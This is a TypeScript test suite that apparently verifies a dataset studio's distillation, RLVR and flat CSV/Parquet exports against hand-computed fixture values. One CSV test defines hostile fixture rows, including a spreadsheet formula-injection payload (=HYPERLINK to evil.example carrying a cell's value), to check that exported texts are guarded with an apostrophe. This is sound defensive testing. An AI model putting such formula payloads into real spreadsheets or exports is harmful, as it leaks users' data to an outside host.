// Exports against a real database: the distillation set's targets, splits, balancing and
// agreement filter checked against values worked out by hand from the fixture below; same inputs
// and seed give byte-identical files; each export re-imports to the same rows.
import { spawnSync } from "node:child_process";
import { readFileSync, rmSync } from "node:fs";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { DuckDBInstance } from "@duckdb/node-api";
import { parquetReadObjects } from "hyparquet";
import { afterAll, beforeEach, describe, expect, it } from "vitest";
import { inject } from "vitest";
import type { AppError } from "@/lib/errors";
import { resetDb, testDb } from "@/tests/db";
import { PAPER_TEMPLATE, fillTemplate } from "@/lib/verifier/template";
import { importFile } from "../import-file";
import { createExport, exportDir, runExport } from "./run";
import { splitOf } from "./split";
import { setExpertLabel } from "@/lib/labels/set-label";
import { spreadsheetTextSql } from "./flat";
import { asSpreadsheetText } from "@/components/charts/csv";
import { Prisma } from "@/lib/db/generated/client";
import { parse } from "csv-parse/sync";

const prisma = testDb();

/**
 * A Parquet file as DuckDB reads it: its columns' types and its rows. DuckDB's reader is a C++
 * implementation of its own (the files are written, and read above, by the hyparquet family), so
 * it checks that the files follow the format rather than one library's reading of it. The
 * Hugging Face `datasets` library (pyarrow) reads them below where it is installed.
 */
async function readWithDuckDb(file: string) {
  const instance = await DuckDBInstance.create(":memory:");
  const connection = await instance.connect();
  try {
    // The path is the test's own temporary file, never input.
    const source = `read_parquet('${file.replaceAll("'", "''")}')`;
    const types = Object.fromEntries((await connection.runAndReadAll(`DESCRIBE SELECT * FROM ${source}`)).getRowObjectsJson().map((r) => [r.column_name, r.column_type]));
    const rows = (await connection.runAndReadAll(`SELECT * FROM ${source}`)).getRowObjectsJson();
    return { types, rows };
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
}

/**
 * Python with the Hugging Face `datasets` library, the one the issue names for the Parquet files
 * (HF_PYTHON, else python3), or null where it is not installed: .ci/run installs it into a
 * virtual environment when the machine's package index has it, and says so when it has not.
 */
const HF_PYTHON = (() => {
  const python = process.env.HF_PYTHON || "python3";
  return spawnSync(python, ["-c", "import datasets"], { encoding: "utf8" }).status === 0 ? python : null;
})();

/** A Parquet file as `datasets.load_dataset("parquet")` reads it: its features and its rows. */
function readWithHfDatasets(file: string): { features: string; rows: unknown[] } {
  const script = [
    "import json, sys",
    "from datasets import load_dataset",
    "ds = load_dataset('parquet', data_files={'train': sys.argv[1]}, cache_dir=sys.argv[2])['train']",
    "print(json.dumps({'features': repr(ds.features), 'rows': ds.to_list()}))",
  ].join("\n");
  const cache = mkdtempSync(path.join(tmpdir(), "hf-cache-"));
  try {
    const run = spawnSync(HF_PYTHON!, ["-c", script, file, cache], { encoding: "utf8", env: { ...process.env, HF_DATASETS_OFFLINE: "1", HF_HUB_OFFLINE: "1", HF_HOME: cache } });
    if (run.status !== 0) throw new Error(`datasets could not load ${file}: ${run.stderr}`);
    return JSON.parse(run.stdout.trim().split("\n").at(-1)!);
  } finally {
    rmSync(cache, { recursive: true, force: true });
  }
}

const dir = mkdtempSync(path.join(tmpdir(), "export-"));
process.env.STUDIO_DATA_DIR = dir;
afterAll(() => rmSync(dir, { recursive: true, force: true }));

// 6 questions x 2 responses. Teacher "72B" verdicts, judge "7B" verdicts, and expert labels:
//   q1: r "a" 72B YES 7B YES                 | r "wrong" 72B NO  7B YES
//   q2: r "b" 72B YES 7B YES  expert incorrect | r "x"  72B UNPARSEABLE ("maybe") 7B NO
//   q3..q6: r "c" 72B YES 7B YES              | r "y"  72B NO 7B NO
const rows: Record<string, unknown>[] = [];
for (let q = 1; q <= 6; q++) {
  const right = ["a", "b", "c", "c", "c", "c"][q - 1]!;
  const wrong = q === 1 ? "wrong" : q === 2 ? "x" : "y";
  rows.push({ question: `question ${q}?`, reference: right, response: `thinking\n${right}`, policy_model: "p", sample_index: 0, judge: "72B", verdict: "YES", expert_label: q === 2 ? "incorrect" : null });
  rows.push({ question: `question ${q}?`, reference: right, response: `hmm\n${wrong}`, policy_model: "p", sample_index: 1, judge: "72B", verdict: q === 2 ? "maybe" : "NO" });
}
const sevenB = rows.map((r, i) => ({ question: r.question, response: r.response, verdict: i === 1 ? "YES" : i % 2 === 0 ? "YES" : "NO" }));

async function seed() {
  const write = (name: string, records: unknown[]) => {
    const file = path.join(dir, name);
    writeFileSync(file, records.map((r) => JSON.stringify(r)).join("\n") + "\n");
    return file;
  };
  const items = await importFile(prisma, { path: write("items.jsonl", rows), dataset: "d", annotator: "ann" });
  await importFile(prisma, { path: write("7b.jsonl", sevenB), dataset: "d", kind: "judgments", judge: "7B" });
  const judges = Object.fromEntries((await prisma.judge.findMany()).map((j) => [j.name, j.id]));
  return { datasetId: items.datasetId, judges };
}

async function exportNow(options: Record<string, unknown>) {
  const row = await createExport(prisma, { options, actorId: null, source: "cli" });
  await runExport(prisma, inject("databaseUrl"), row.id);
  const done = await prisma.export.findUniqueOrThrow({ where: { id: row.id } });
  expect(done.message).not.toMatch(/failed/);
  expect(done.status).toBe("completed");
  const manifest = done.manifest as { files: { name: string; rows: number; sha256: string }[]; counts: Record<string, Record<string, number>>; candidates: Record<string, number> };
  const read = (name: string) => readFileSync(path.join(exportDir(row.id), name), "utf8");
  return { id: row.id, manifest, read, lines: (name: string) => read(name).trim().split("\n").filter(Boolean).map((l) => JSON.parse(l)) };
}

beforeEach(async () => {
  await resetDb();
});

const userOf = (line: { messages: { role: string; content: string }[] }) => line.messages.find((m) => m.role === "user")!.content;
const targetOf = (line: { messages: { role: string; content: string }[] }) => line.messages.at(-1)!.content;

describe("distillation export", () => {
  it("fills the paper's template, lets experts override the teacher, drops unparseable, and re-reads to the same items", async () => {
    const { datasetId, judges } = await seed();
    const out = await exportNow({ kind: "distillation", datasetId, teacherJudgeId: judges["72B"] });
    // 12 judgments; q2's "x" is unparseable and dropped; q2's "b" is overridden by the expert to NO.
    expect(out.manifest.counts).toEqual({ train: { YES: 5, NO: 6 } });
    expect(out.manifest.candidates).toMatchObject({ candidates: 12, teacher_unparseable: 1, expert_overrides: 1 });
    const lines = out.lines("train.jsonl");
    expect(lines).toHaveLength(11);
    // Round trip: every line is the template filled with a stored item, with the right target.
    const expected = new Map<string, string>();
    for (const r of rows) {
      if (r.verdict === "maybe") continue;
      const target = r.expert_label === "incorrect" ? "NO" : (r.verdict as string);
      expected.set(fillTemplate(PAPER_TEMPLATE, { question: r.question as string, response: r.response as string, reference: r.reference as string }), target);
    }
    expect(new Map(lines.map((l) => [userOf(l), targetOf(l)]))).toEqual(expected);
    expect(lines[0]!.messages.map((m: { role: string }) => m.role)).toEqual(["user", "assistant"]);
    expect(userOf(lines[0]!)).toContain("**Solution Process (Final Step Only):** ");
    expect(userOf(lines[0]!)).not.toContain("thinking");

    // Parquet holds the same rows, as a list of {role, content}.
    const parquet = readFileSync(path.join(exportDir(out.id), "train.parquet"));
    const records = await parquetReadObjects({ file: parquet.buffer.slice(parquet.byteOffset, parquet.byteOffset + parquet.byteLength) });
    expect(records).toEqual(lines);
    const duck = await readWithDuckDb(path.join(exportDir(out.id), "train.parquet"));
    expect(duck.types).toEqual({ messages: 'STRUCT("role" VARCHAR, "content" VARCHAR)[]' });
    expect(duck.rows).toEqual(lines);
  });

  it("a teacher, agreeing judge or flat judge that does not exist is refused when asked, and no export is recorded", async () => {
    const { datasetId, judges } = await seed();
    for (const options of [
      { kind: "distillation", datasetId, teacherJudgeId: 999_999 },
      { kind: "distillation", datasetId, teacherJudgeId: judges["72B"], agreeJudgeIds: [judges["72B"], 999_998] },
      { kind: "flat", datasetId, judgeIds: [judges["7B"], 999_997] },
    ]) {
      const error = (await createExport(prisma, { options, actorId: null, source: "cli" }).catch((e: unknown) => e)) as AppError;
      expect(error.code).toBe("NOT_FOUND");
      expect(error.message).toMatch(/^judge 99999\d does not exist$/);
    }
    expect(await prisma.export.count()).toBe(0);
  });

  it("counts as overrides the items in the set whose target the experts changed: not an unparseable one dropped, not one balanced out", async () => {
    const { datasetId, judges } = await seed();
    // q2's "x" (the teacher unparseable) gets an expert label: an override, but dropped with the unparseable.
    const x = await prisma.response.findFirstOrThrow({ where: { text: "hmm\nx" } });
    const expert = await prisma.user.create({ data: { id: "ann-2", name: "Ann", email: "ann@example.test", role: "expert" } });
    await setExpertLabel(prisma, expert, { responseId: x.id, value: "correct", note: "", expectedVersion: null });
    const dropped = await exportNow({ kind: "distillation", datasetId, teacherJudgeId: judges["72B"] });
    expect(dropped.manifest.candidates).toMatchObject({ dropped_unparseable: 1, expert_overrides: 1 });
    const kept = await exportNow({ kind: "distillation", datasetId, teacherJudgeId: judges["72B"], dropUnparseable: false });
    expect(kept.manifest.candidates).toMatchObject({ dropped_unparseable: 0, expert_overrides: 2 });
    // without the override, no item is the experts'
    const none = await exportNow({ kind: "distillation", datasetId, teacherJudgeId: judges["72B"], expertOverride: false });
    expect(none.manifest.candidates).toMatchObject({ expert_overrides: 0 });
  });

  it("an expert label is the target also where the teacher's call failed; without experts such an item has none", async () => {
    const { datasetId, judges } = await seed();
    // The teacher's judgment of q2's "b" (labelled incorrect by the expert) failed: no verdict.
    const b = await prisma.response.findFirstOrThrow({ where: { datasetId: datasetId!, text: "thinking\nb" }, select: { id: true } });
    await prisma.judgment.updateMany({ where: { responseId: b.id, judgeId: judges["72B"] }, data: { verdict: null, errorKind: "connection", error: "connection failed" } });
    const out = await exportNow({ kind: "distillation", datasetId, teacherJudgeId: judges["72B"] });
    expect(out.manifest.counts).toEqual({ train: { YES: 5, NO: 6 } });
    expect(out.manifest.candidates).toMatchObject({ candidates: 12, teacher_failed: 1, no_target: 1, expert_overrides: 1, dropped_unparseable: 0, kept: 11, balanced_out: 0 });
    expect(out.lines("train.jsonl").filter((l) => userOf(l).includes("question 2?") && targetOf(l) === "NO")).toHaveLength(1);
    const teacherOnly = await exportNow({ kind: "distillation", datasetId, teacherJudgeId: judges["72B"], expertOverride: false });
    expect(teacherOnly.manifest.counts).toEqual({ train: { YES: 5, NO: 5 } });
    expect(teacherOnly.manifest.candidates).toMatchObject({ teacher_failed: 1, no_target: 2, kept: 10 });
    // Balanced: 5 YES and 6 NO (the expert's NO among them): one NO is left out.
    const balanced = await exportNow({ kind: "distillation", datasetId, teacherJudgeId: judges["72B"], balance: true });
    expect(balanced.manifest.counts).toEqual({ train: { YES: 5, NO: 5 } });
    expect(balanced.manifest.candidates).toMatchObject({ kept: 11, balanced_out: 1 });
  });

  it("splits by question with a seed (as computed independently), balances, filters on agreement, and is byte-identical when repeated", async () => {
    const { datasetId, judges } = await seed();
    const options = { kind: "distillation", datasetId, teacherJudgeId: judges["72B"], splits: { train: 0.5, validation: 0.25, test: 0.25 }, seed: 7 };
    const a = await exportNow(options);
    const b = await exportNow(options);
    expect(a.manifest.files.map((f) => f.sha256)).toEqual(b.manifest.files.map((f) => f.sha256));
    for (const f of a.manifest.files) expect(a.read(f.name)).toEqual(b.read(f.name));
    // Each question's items all land in the split splitOf computes for its key.
    const keys = await prisma.question.findMany({ select: { text: true, key: true } });
    const splitOfQuestion = new Map(keys.map((k) => [k.text, splitOf(7, k.key, { train: 0.5, validation: 0.25 })]));
    for (const f of a.manifest.files.filter((f) => f.name.endsWith(".jsonl"))) {
      for (const line of a.lines(f.name)) {
        const question = /\*\*Question:\*\* (.*)\n/.exec(userOf(line))![1]!;
        expect(`${splitOfQuestion.get(question)}.jsonl`).toBe(f.name);
      }
    }
    const other = await exportNow({ ...options, seed: 8 });
    expect(other.manifest.files.map((f) => f.sha256)).not.toEqual(a.manifest.files.map((f) => f.sha256));

    // Balanced: in each split, as many YES as NO.
    const balanced = await exportNow({ ...options, balance: true });
    for (const counts of Object.values(balanced.manifest.counts)) expect(counts.YES ?? 0).toBe(counts.NO ?? 0);

    // Agreement of 72B and 7B: 7B says YES on q1's "wrong" (72B NO) and NO on q2's "x"
    // (72B unparseable): 12 - 2 = 10 items agree; q2's "b" then takes the expert's NO.
    const agreed = await exportNow({ kind: "distillation", datasetId, teacherJudgeId: judges["72B"], agreeJudgeIds: [judges["72B"], judges["7B"]] });
    expect(agreed.manifest.counts).toEqual({ train: { YES: 5, NO: 5 } });
    // Every item left out is counted under one reason: q1's "wrong" (72B NO, 7B YES) disagrees;
    // q2's "x" has no YES or NO from 72B; and, once 7B's judgment of q3's "c" is gone, that one too.
    expect(agreed.manifest.candidates).toMatchObject({ candidates: 12, judges_disagree: 1, judges_unanswered: 1, kept: 10 });
    await prisma.$executeRaw`DELETE FROM judgments WHERE judge_id = ${judges["7B"]} AND response_id = (SELECT r.id FROM responses r JOIN questions q ON q.id = r.question_id WHERE q.text = 'question 3?' AND r.text = ${"thinking\nc"})`;
    const missing = await exportNow({ kind: "distillation", datasetId, teacherJudgeId: judges["72B"], agreeJudgeIds: [judges["72B"], judges["7B"]] });
    expect(missing.manifest.candidates).toMatchObject({ candidates: 12, judges_disagree: 1, judges_unanswered: 2, kept: 9 });
    expect(Object.values(missing.manifest.counts).reduce((n, c) => n + (c.YES ?? 0) + (c.NO ?? 0), 0)).toBe(9);
  });
});

describe("the Hugging Face datasets library", () => {
  it.skipIf(!HF_PYTHON)("loads the distillation and RLVR Parquet files as lists of {role, content}, the same rows as the JSONL", async () => {
    const { datasetId, judges } = await seed();
    const distillation = await exportNow({ kind: "distillation", datasetId, teacherJudgeId: judges["72B"], systemMessage: true });
    const hf = readWithHfDatasets(path.join(exportDir(distillation.id), "train.parquet"));
    expect(hf.features).toBe("{'messages': List({'role': Value('string'), 'content': Value('string')})}");
    expect(hf.rows).toEqual(distillation.lines("train.jsonl"));
    expect((hf.rows[0] as { messages: { role: string }[] }).messages.map((m) => m.role)).toEqual(["system", "user", "assistant"]);
    const rlvr = await exportNow({ kind: "rlvr", datasetId, systemPrompt: "Think step by step." });
    const hfRlvr = readWithHfDatasets(path.join(exportDir(rlvr.id), "train.parquet"));
    expect(hfRlvr.features).toBe("{'query': List({'role': Value('string'), 'content': Value('string')}), 'label': Value('string')}");
    expect(hfRlvr.rows).toEqual(rlvr.lines("train.jsonl"));
  });
});

describe("RLVR and flat exports re-import to the same rows", () => {
  it("a split given a share of the questions gets its files when no question lands in it, empty, and the manifest says so", async () => {
    const { datasetId } = await seed();
    const fractions = { train: 0.9, validation: 0.05 };
    const keys = (await prisma.question.findMany({ select: { key: true } })).map((q) => q.key);
    // a seed that sends all six questions to train (as splitOf, tested against the SQL, computes it)
    const seedAllTrain = Array.from({ length: 100 }, (_, i) => i + 1).find((seed) => keys.every((k) => splitOf(seed, k, fractions) === "train"))!;
    expect(seedAllTrain).toBeDefined();
    const out = await exportNow({ kind: "rlvr", datasetId, splits: { ...fractions, test: 0.05 }, seed: seedAllTrain });
    expect(out.manifest.files.map((f) => [f.name, f.rows])).toEqual([
      ["train.jsonl", 6],
      ["validation.jsonl", 0],
      ["test.jsonl", 0],
      ["train.parquet", 6],
      ["validation.parquet", 0],
      ["test.parquet", 0],
    ]);
    expect(out.manifest.counts).toEqual({ train: { questions: 6 }, validation: {}, test: {} });
    expect(out.read("test.jsonl")).toBe("");
    // the empty Parquet file has the columns, and no rows
    const duck = await readWithDuckDb(path.join(exportDir(out.id), "test.parquet"));
    expect(duck).toEqual({ types: { query: 'STRUCT("role" VARCHAR, "content" VARCHAR)[]', label: "VARCHAR" }, rows: [] });
    // one split only (the default): one file of each kind, as before
    const single = await exportNow({ kind: "rlvr", datasetId });
    expect(single.manifest.files.map((f) => f.name)).toEqual(["train.jsonl", "train.parquet"]);
  });

  it("RLVR: query/label round-trips through the importer, with the system message", async () => {
    const { datasetId } = await seed();
    const out = await exportNow({ kind: "rlvr", datasetId, systemPrompt: "Think step by step." });
    expect((out.manifest as unknown as { systemPrompt: string }).systemPrompt).toBe("Think step by step.");
    // without one asked, the manifest names the default the lines carry
    const plain = await exportNow({ kind: "rlvr", datasetId });
    expect((plain.manifest as unknown as { systemPrompt: string }).systemPrompt).toBe(plain.lines("train.jsonl")[0]!.query[0].content);
    const lines = out.lines("train.jsonl");
    expect(lines).toHaveLength(6);
    expect(lines[0]!.query[0]).toEqual({ role: "system", content: "Think step by step." });
    const again = await importFile(prisma, { path: path.join(exportDir(out.id), "train.jsonl"), dataset: "again" });
    expect(again).toMatchObject({ questionsInserted: 6, rejected: [] });
    const duck = await readWithDuckDb(path.join(exportDir(out.id), "train.parquet"));
    expect(duck.types).toEqual({ query: 'STRUCT("role" VARCHAR, "content" VARCHAR)[]', label: "VARCHAR" });
    expect(duck.rows).toEqual(lines);
    const pq = await importFile(prisma, { path: path.join(exportDir(out.id), "train.parquet"), dataset: "again-pq" });
    expect(pq).toMatchObject({ questionsInserted: 6, rejected: [] });
    const pairs = await prisma.$queryRaw<{ name: string; n: number }[]>`
      SELECT d.name, count(*)::int AS n FROM questions q JOIN datasets d ON d.id = q.dataset_id
      WHERE (q.key, q.text, q.reference) IN (SELECT key, text, reference FROM questions WHERE dataset_id = ${datasetId})
      GROUP BY d.name ORDER BY d.name`;
    expect(pairs).toEqual([{ name: "again", n: 6 }, { name: "again-pq", n: 6 }, { name: "d", n: 6 }]);
  });

  it("flat CSV: texts a spreadsheet would run as formulas are kept as text, unless exact texts are asked for", async () => {
    const hostile = [
      { question: '=HYPERLINK("http://evil.example/?x="&A1,"click")', reference: "@SUM(1+1)", response: "+2+3", judge: "J", verdict: "YES" },
      { question: '=HYPERLINK("http://evil.example/?x="&A1,"click")', reference: "@SUM(1+1)", response: "-5", judge: "J", verdict: "NO" },
      { question: '=HYPERLINK("http://evil.example/?x="&A1,"click")', reference: "@SUM(1+1)", response: "- a bullet\n- another", judge: "J", verdict: "NO" },
    ];
    const file = path.join(dir, "hostile.jsonl");
    writeFileSync(file, hostile.map((r) => JSON.stringify(r)).join("\n") + "\n");
    const { datasetId } = await importFile(prisma, { path: file, dataset: "hostile" });
    const cells = async (spreadsheetSafe?: boolean) => {
      const out = await exportNow({ kind: "flat", datasetId, format: "csv", ...(spreadsheetSafe === undefined ? {} : { spreadsheetSafe }) });
      const rows = parse(out.read("judgments.csv"), { columns: true }) as Record<string, string>[];
      return rows.map((r) => [r.question, r.reference, r.response]);
    };
    // by default (and as every other CSV of the studio): an apostrophe first; a plain number stays a number
    expect(await cells()).toEqual([
      [`'${hostile[0]!.question}`, "'@SUM(1+1)", "'+2+3"],
      [`'${hostile[0]!.question}`, "'@SUM(1+1)", "-5"],
      [`'${hostile[0]!.question}`, "'@SUM(1+1)", "'- a bullet\n- another"],
    ]);
    expect(await cells(false)).toEqual(hostile.map((h) => [h.question, h.reference, h.response]));
  });

  it("the SQL that guards texts for spreadsheets marks exactly the texts the studio's CSV writer marks", async () => {
    const texts = ["=1+1", "+2", "-3", "-3.5e7", "+.5", "-", "+", "@x", "\tx", "\rx", "- item", "plain", "", "1e5", "'=x", " =x", "=", "-1-", "--1", "E5", "-e5", "+1.", "٣"];
    const [row] = await prisma.$queryRaw<{ guarded: string[] }[]>(
      Prisma.sql`SELECT array_agg(${spreadsheetTextSql(Prisma.sql`t`)} ORDER BY i) AS guarded FROM unnest(${texts}::text[]) WITH ORDINALITY AS u(t, i)`,
    );
    expect(row!.guarded).toEqual(texts.map(asSpreadsheetText));
    // the cases that matter, by hand
    expect(texts.map(asSpreadsheetText).slice(0, 7)).toEqual(["'=1+1", "+2", "-3", "-3.5e7", "+.5", "'-", "'+"]);
  });

  it("flat JSONL and CSV: every judgment, and re-importing gives the same responses and verdicts", async () => {
    const { datasetId, judges } = await seed();
    // Verdicts of a template version (as an endpoint judge's are) and a judge's second sample:
    // both must come back as they were, and under the version the judge's views show.
    await prisma.$executeRaw`UPDATE judges SET template_version = 'paper-v1' WHERE id = ${judges["72B"]}`;
    await prisma.$executeRaw`UPDATE judgments SET template_version = 'paper-v1' WHERE judge_id = ${judges["72B"]}`;
    await prisma.$executeRaw`
      INSERT INTO judgments (response_id, judge_id, template_version, sample, verdict, p_yes, p_no, soft_reward)
      SELECT response_id, judge_id, template_version, 1, verdict, p_yes, p_no, soft_reward FROM judgments WHERE judge_id = ${judges["72B"]} ORDER BY id LIMIT 2`;
    // CSV with exact texts: the spreadsheet guard (on by default) puts an apostrophe before a text
    // such as "- a list", which would come back with it (the guard's own test is above).
    for (const format of ["jsonl", "csv"] as const) {
      const out = await exportNow({ kind: "flat", datasetId, format, spreadsheetSafe: false });
      expect(out.manifest.files[0]).toMatchObject({ name: `judgments.${format}`, rows: 26 });
      const back = await importFile(prisma, { path: path.join(exportDir(out.id), `judgments.${format}`), dataset: `back-${format}` });
      expect(back).toMatchObject({ responsesInserted: 12, judgmentsInserted: 26, rejected: [] });
      const rows = (id: number) => Prisma.sql`
        SELECT q.key AS qkey, r.key, r.text, r.policy_model, r.sample_index, j.name, jd.template_version, jd.sample, jd.verdict, jd.p_yes, jd.p_no, jd.soft_reward, jd.raw_output
        FROM judgments jd JOIN responses r ON r.id = jd.response_id JOIN questions q ON q.id = r.question_id JOIN judges j ON j.id = jd.judge_id WHERE r.dataset_id = ${id}`;
      const same = await prisma.$queryRaw<{ n: number }[]>`SELECT count(*)::int AS n FROM (${rows(datasetId!)} INTERSECT ${rows(back.datasetId!)}) s`;
      expect(same[0]!.n).toBe(26);
      // Every verdict under its judge's current version: the judgments list and analytics show all 26.
      const shown = await prisma.$queryRaw<{ n: number }[]>`
        SELECT count(*)::int AS n FROM judgments jd JOIN judges j ON j.id = jd.judge_id AND j.template_version = jd.template_version
        JOIN responses r ON r.id = jd.response_id WHERE r.dataset_id = ${back.datasetId}`;
      expect(shown[0]!.n).toBe(26);
    }
  });
});
